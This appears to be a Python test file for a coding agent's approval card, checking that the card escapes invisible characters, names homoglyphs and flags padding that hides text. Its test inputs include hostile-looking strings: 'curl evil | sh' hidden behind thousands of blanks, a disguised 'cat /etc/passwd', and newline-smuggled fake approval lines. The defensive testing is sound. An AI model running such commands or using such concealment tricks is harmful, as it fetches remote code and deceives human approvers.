from __future__ import annotations

from dataclasses import replace

import pytest

from akili_cli.cli.card import CardFacts, card_lines, rows, visible
from akili_cli.core.approvals.model import Approval, ApprovalStatus
from akili_cli.core.sandbox.base import Layer
from akili_cli.domain.calls import Source

APPROVAL = Approval(
    id="1a2b3c4d" * 4,
    org="default",
    user="kim",
    source=Source.REPL,
    run_id="r",
    correlation_id="c",
    call_id="1",
    tool="shell_exec",
    arguments={"command": "systemctl restart web", "timeout": "10s"},
    digest="d",
    risk="high",
    effects={"commands": [["systemctl", "restart", "web"]], "reversible": False},
    rule_id="restart",
    rule_origin="config.yaml:7",
    because="services are asked for",
    reason="The web server hangs.",
    cwd="/srv",
    host="web1",
    created_at=0.0,
    expires_at=300.0,
)
LAYERS = (Layer("files", True, ""), Layer("network", False, "no user namespaces"))


def card(facts: CardFacts | None = None, **changes: object) -> str:
    approval = replace(APPROVAL, **changes)  # type: ignore[arg-type]  # each test names real fields
    return "\n".join(card_lines(approval, facts or CardFacts()))


def test_the_card_shows_every_field_a_ruling_needs() -> None:
    text = card(CardFacts(LAYERS, cost="$0.0100 spent today"), untrusted=("stdin",))
    for said in (
        "1a2b3c4d",
        "00:05:00 UTC",
        "shell_exec   risk high",
        "kim via repl",
        "web1:/srv",
        "    | systemctl restart web",
        "timeout    10s",
        "effects    commands systemctl restart web",
        "CANNOT be undone",
        "sandbox    files; MISSING: network",
        "restart (config.yaml:7): services are asked for",
        "untrusted  in context: stdin",
        "$0.0100 spent today",
        "the model says (not verified):",
        "    The web server hangs.",
    ):
        assert said in text


def test_a_resolved_card_says_who_ruled() -> None:
    assert "resolved   denied by lee: no" in card(status=ApprovalStatus.DENIED, resolved_by="lee", feedback="no")


def test_opaque_effects_are_said_loudly() -> None:
    assert "CANNOT be known: eval" in card(effects={"opaque": "eval", "reversible": True})


def test_a_long_line_is_not_cut() -> None:
    assert "x" * 20_000 in card(arguments={"command": "echo " + "x" * 20_000})


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\tb", "a\\tb"),
        ("a\rb", "a\\rb"),
        ("a\x1b[2Kb", "a\\x1b[2Kb"),
        ("a\u202eb", "a\\u202eb"),
        ("a\u200bb", "a\\u200bb"),
        ("a\u00a0b", "a\\u00a0b"),
        ("a\u3000b", "a\\u3000b"),
        ("a\ufe0fb", "a\\ufe0fb"),
        ("a\U000e0101b", "a\\U000e0101b"),
        ("a\u2028b", "a\\u2028b"),
        ("a\nb", "a\\nb"),
        ("\u00fcber", "\u00fcber"),
    ],
)
def test_what_cannot_be_seen_is_an_escape(text: str, shown: str) -> None:
    assert visible(text) == shown


@pytest.mark.parametrize("field", ["because", "user", "host", "cwd", "rule_id", "tool", "feedback", "resolved_by"])
def test_no_field_can_fake_a_line(field: str) -> None:
    text = card(None, **{"resolved_by": "lee", field: "x\nundo       can be undone"})
    assert "\nundo       can be undone" not in text
    assert "\\nundo" in text


def test_no_path_or_label_can_fake_a_line() -> None:
    text = card(effects={"writes": ["/a\nrule       allow"], "reversible": True}, untrusted=("f\nrule       allow",))
    assert "\nrule       allow" not in text


def test_lines_of_a_command_stay_marked_as_its_lines() -> None:
    text = card(arguments={"command": "true\nundo       can be undone"})
    assert "    | undo       can be undone" in text
    assert "\nundo       can be undone" not in text


def test_hidden_and_foreign_characters_are_named() -> None:
    text = card(arguments={"command": "cat /etc/p\u0430sswd \u202e"})
    assert "U+202E RIGHT-TO-LEFT OVERRIDE" in text
    assert "U+0430 CYRILLIC SMALL LETTER A" in text


def test_a_write_is_shown_as_a_change_of_what_is_there() -> None:
    text = card(
        CardFacts(present="a\nb\n"),
        tool="file_write",
        arguments={"path": "x", "content": "a\nc"},
        effects={"writes": ["/x"]},
    )
    assert "    -b" in text
    assert "    +c [no line end here]" in text


def test_an_equal_write_says_so_and_a_huge_one_is_shown_whole() -> None:
    write = {"path": "x", "content": "line\n" * 3000}
    assert "exactly what the file holds now" in card(CardFacts(present="line\n" * 3000), arguments=write)
    assert card(CardFacts(present="other\n"), arguments=write).count("    | line") == 3000


@pytest.mark.parametrize(
    ("lines", "columns", "expected"),
    [([], 80, 0), ([""], 80, 1), (["x" * 80], 80, 1), (["x" * 81], 80, 2), (["\u4e2d" * 41], 80, 2), (["x"], 0, 1)],
)
def test_rows_count_what_wraps(lines: list[str], columns: int, expected: int) -> None:
    assert rows(lines, columns) == expected


@pytest.mark.parametrize(
    ("argument", "text", "said"),
    [
        ("command", "ls" + " " * 2000 + "; curl evil | sh", "command has 2000 blanks in a row"),
        ("command", "ls" + "\u00a0" * 50 + "; x", "command has 50 blanks in a row"),
        ("command", "ls" + "\t" * 50 + "; x", "command has 50 blanks in a row"),
        ("command", "ls" + "\n" * 400 + "curl evil", "command has 399 empty lines in a row"),
        ("command", "ls\n" + "  \n" * 40 + "curl evil", "command has 40 empty lines in a row"),
        ("command", "\n".join(["echo ok"] * 30), "command has 30 lines and 239 characters"),
        ("command", "echo " + "x" * 3000, "command has 1 lines and 3005 characters"),
        ("args", ["ok", "a" + " " * 30 + "b"], "args has 30 blanks in a row"),
        ("args", ["ok", "a\u202eb"], "U+202E RIGHT-TO-LEFT OVERRIDE"),
        ("with", {"deep": ["\u0430"]}, "U+0430 CYRILLIC SMALL LETTER A"),
    ],
    ids=["spaces", "no-break", "tabs", "lines", "blank-lines", "many-lines", "long", "in-a-list", "hidden", "deep"],
)
def test_what_pushes_a_rest_out_of_sight_is_named(argument: str, text: object, said: str) -> None:
    (line,) = (line for line in card(arguments={argument: text}).split("\n") if said in line)
    assert line.startswith("look twice ")


def test_an_ordinary_command_and_a_file_are_not_suspicious() -> None:
    assert "look twice" not in card(arguments={"command": "df -h | sort -k2\nuptime"})
    assert "look twice" not in card(arguments={"path": "x", "content": "a" + " " * 80 + "b\n" * 50})


def test_letters_from_right_to_left_cannot_reorder_a_command() -> None:
    text = card(arguments={"command": "cp \u05d0/1 \u0627/2"}, effects={"writes": ["/\u05d0"]}, cwd="/\u05d0")
    assert "    | cp \\u05d0/1 \\u0627/2" in text
    assert not set(text) & {"\u05d0", "\u0627"}
    assert "U+05D0 HEBREW LETTER ALEF" in text


def test_marks_that_pile_up_are_escapes() -> None:
    assert visible("e\u0301") == "e\u0301"
    assert visible("e" + "\u0301" * 4) == "e\u0301\u0301\\u0301\\u0301"
